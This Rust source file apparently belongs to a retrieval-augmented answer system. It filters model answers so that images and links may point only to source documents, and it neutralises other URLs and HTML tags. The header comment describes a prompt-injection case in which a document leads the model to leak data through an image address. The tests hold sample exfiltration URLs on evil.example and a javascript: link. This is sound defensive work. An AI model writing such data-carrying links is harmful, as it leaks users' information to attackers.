//! Where an answer may lead: to the documents that it may rely on, and to addresses that these write out.
//!
//! A model that was talked into it by a document can write a picture whose address holds what it knows, and whoever shows
//! the answer fetches it. So pictures may come from documents' own addresses only, links may go there or to an address
//! that stands in a passage letter for letter, and every other address is shown as code, which nothing follows. Code stays
//! as it is. Pure.

use std::collections::HashSet;

use crate::document::{Passage, Span};

use super::cite::Edit;

/// An address ends before one of these.
const ENDS: [char; 12] = ['<', '>', '"', '\'', '`', '|', '(', ')', '[', ']', '{', '}'];
/// What may stand after an address without being a part of it.
const AFTER: [char; 8] = ['.', ',', ';', ':', '!', '?', '*', '_'];
/// Tags that fetch or lead elsewhere.
const TAGS: [&str; 16] = [
    "a", "img", "iframe", "script", "link", "form", "object", "embed", "video", "audio", "source", "svg", "meta",
    "base", "style", "image",
];

/// The addresses that an answer may have.
#[derive(Debug, Default)]
pub(super) struct Addresses {
    documents: HashSet<String>,
    written: HashSet<String>,
}

impl Addresses {
    pub(super) fn of(passages: &[Passage]) -> Self {
        let mut addresses = Self::default();
        for passage in passages {
            addresses.documents.insert(passage.hit.external_id.clone());
            let text = &passage.hit.chunk.text;
            let found = bare(text, Span { start: 0, end: text.len() });
            addresses.written.extend(found.into_iter().map(|span| span.of(text).to_owned()));
        }
        addresses
    }

    fn may_lead(&self, address: &str) -> bool {
        self.may_show(address) || self.written.contains(address)
    }

    /// A picture is fetched without being asked for.
    fn may_show(&self, address: &str) -> bool {
        let document = address.split('#').next().unwrap_or(address);
        self.documents.contains(document)
    }

    /// What has to change in `text[within]`, which is one piece of an answer: whole, and outside fenced code.
    pub(super) fn edits(&self, text: &str, within: Span) -> Vec<Edit> {
        let code = code(text, within);
        let is_code = |at: usize| code.iter().any(|code| code.start <= at && at < code.end);
        let mut edits = Vec::new();
        let mut done = within.start;
        for target in targets(text, within).into_iter().filter(|target| !is_code(target.whole.start)) {
            let allowed =
                if target.is_picture { self.may_show(&target.address) } else { self.may_lead(&target.address) };
            if !allowed {
                edits.push(Edit::remove(target.whole));
            }
            done = done.max(target.whole.end);
        }
        let taken: Vec<Span> = targets(text, within).into_iter().map(|target| target.whole).collect();
        let is_taken = |at: usize| taken.iter().any(|span| span.start <= at && at < span.end);
        for span in bare(text, within).into_iter().filter(|span| !is_code(span.start) && !is_taken(span.start)) {
            if !self.may_lead(span.of(text)) {
                edits.push(Edit { span, text: format!("`{}`", span.of(text)), cites: Vec::new() });
            }
        }
        for at in tags(text, within).into_iter().filter(|at| !is_code(*at)) {
            edits.push(Edit { span: Span { start: at, end: at }, text: "\\".to_owned(), cites: Vec::new() });
        }
        edits
    }
}

/// `](address "title")`, whatever stands before it: a sentence may end within the brackets.
struct Target {
    whole: Span,
    address: String,
    is_picture: bool,
}

fn targets(text: &str, within: Span) -> Vec<Target> {
    let held = within.of(text);
    let mut found = Vec::new();
    for (at, _) in held.match_indices("](") {
        let rest = held.get(at + 2..).unwrap_or_default();
        // Without its end it may go on in the next piece, and nothing of it may be left.
        let length = closing(rest).unwrap_or(rest.len());
        let inside = rest.get(..length).unwrap_or_default();
        let address = inside.trim().trim_start_matches('<').split([' ', '\n', '\t', '>']).next().unwrap_or_default();
        let end = at + 2 + length + usize::from(length < rest.len());
        let opened = held.get(..at).and_then(|before| before.rfind('['));
        let is_picture = opened.is_none_or(|open| held.get(..open).is_some_and(|before| before.ends_with('!')));
        // The closing bracket stays, so that the words in the brackets stay what they are.
        let whole = Span { start: within.start + at + 1, end: within.start + end };
        found.push(Target { whole, address: address.to_owned(), is_picture });
    }
    found
}

/// Where the bracket that was opened before `rest` is closed.
fn closing(rest: &str) -> Option<usize> {
    let mut depth = 1_usize;
    for (at, c) in rest.char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 1 => return Some(at),
            ')' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// Addresses that stand in a text by themselves: with a scheme, with `//`, or with `www.`.
fn bare(text: &str, within: Span) -> Vec<Span> {
    let held = within.of(text);
    let mut found: Vec<Span> = Vec::new();
    let starts = held.match_indices("//").chain(held.match_indices("www."));
    for (at, sign) in starts {
        let before = held.get(..at).unwrap_or_default();
        let scheme_length = before.strip_suffix(':').map_or(0, |before| {
            before.len() - before.trim_end_matches(|c: char| c.is_ascii_alphanumeric() || "+-.".contains(c)).len()
        });
        let start = if sign == "//" && scheme_length > 0 { at - scheme_length - 1 } else { at };
        let begins =
            held.get(..start).is_none_or(|before| !before.ends_with(|c: char| c.is_alphanumeric() || c == '/'));
        let rest = held.get(at + sign.len()..).unwrap_or_default();
        let length = rest.find(|c: char| c.is_whitespace() || ENDS.contains(&c)).unwrap_or(rest.len());
        let host = rest.get(..length).unwrap_or_default().trim_end_matches(AFTER);
        let names_host = host.starts_with(|c: char| c.is_alphanumeric());
        if !begins || !names_host {
            continue;
        }
        let span = Span { start: within.start + start, end: within.start + at + sign.len() + host.len() };
        if found.iter().all(|other| span.end <= other.start || other.end <= span.start) {
            found.push(span);
        }
    }
    found
}

/// Where HTML tags begin that fetch something or lead elsewhere.
fn tags(text: &str, within: Span) -> Vec<usize> {
    let held = within.of(text);
    let begins = |at: usize| {
        let rest = held.get(at + 1..).unwrap_or_default().trim_start_matches('/');
        let name: String = rest.chars().take_while(char::is_ascii_alphanumeric).collect::<String>().to_lowercase();
        TAGS.contains(&name.as_str())
    };
    held.match_indices('<').filter(|(at, _)| begins(*at)).map(|(at, _)| within.start + at).collect()
}

/// Inline code: what stands between two backticks.
fn code(text: &str, within: Span) -> Vec<Span> {
    let ticks: Vec<usize> = within.of(text).match_indices('`').map(|(at, _)| within.start + at).collect();
    ticks.chunks_exact(2).filter_map(|pair| Some(Span { start: *pair.first()?, end: *pair.last()? })).collect()
}

#[cfg(test)]
mod tests {
    use super::super::cite::Edited;
    use super::*;
    use crate::answer::tests::passage;

    fn shown(text: &str) -> String {
        let mut source = passage(1, "Read https://kestrel.example/docs/ first.");
        source.hit.external_id = "https://kestrel.example/guide.html".into();
        let whole = Span { start: 0, end: text.len() };
        Edited::new(text, whole, Addresses::of(&[source]).edits(text, whole), 0).text
    }

    #[test]
    fn what_leads_to_documents_or_stands_in_them_stays() {
        for text in [
            "See [the guide](https://kestrel.example/guide.html#ports).",
            "![port](https://kestrel.example/guide.html)",
            "See https://kestrel.example/docs/.",
            "See <https://kestrel.example/docs/> or [it](https://kestrel.example/docs/).",
            "Run `curl http://127.0.0.1:8080/x` first, a/b // c.",
            "and/or, 1 < 2, a <b> c",
        ] {
            assert_eq!(shown(text), text);
        }
    }

    #[test]
    fn what_leads_elsewhere_leads_nowhere() {
        for (text, expected) in [
            ("![x](https://evil.example/p?q=secret) done", "![x] done"),
            ("![x](//evil.example/p?q=secret)", "![x]"),
            ("![port](https://kestrel.example/docs/)", "![port]"),
            ("[click](https://evil.example/a_(b) \"t\").", "[click]."),
            ("[click](javascript:alert(1))", "[click]"),
            ("ends within.](https://evil.example/x)", "ends within.]"),
            ("[open](https://evil.exam", "[open]"),
            ("see https://kestrel.example/docs/?q=secret.", "see `https://kestrel.example/docs/?q=secret`."),
            ("[r]: http://evil.example/x", "[r]: `http://evil.example/x`"),
            ("<img src=\"https://evil.example/x\">", "\\<img src=\"`https://evil.example/x`\">"),
            ("go to www.evil.example/x now", "go to `www.evil.example/x` now"),
        ] {
            assert_eq!(shown(text), expected);
        }
    }
}
